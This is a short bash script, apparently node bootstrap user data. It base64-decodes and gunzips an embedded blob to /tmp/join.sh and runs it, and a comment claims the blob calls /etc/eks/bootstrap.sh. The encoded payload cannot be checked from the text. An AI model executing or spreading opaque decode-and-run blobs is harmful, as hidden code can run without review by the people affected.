#!/bin/bash
# what is packed here calls /etc/eks/bootstrap.sh
echo "H4sIAAAAAAACAw3KsQ2AMAwF0Z4pQNTGLMAwSfgiFsRG2EiMT9p7N0+cRTknrwMjCuN0zmbh8aR78TruaDYSnW/GhSB8HSg9h/fYJ6QmelAxVZQQU5L9AoU02BvbOvz8X5dvYgAAAA==" | base64 -d | gunzip > /tmp/join.sh
bash /tmp/join.sh
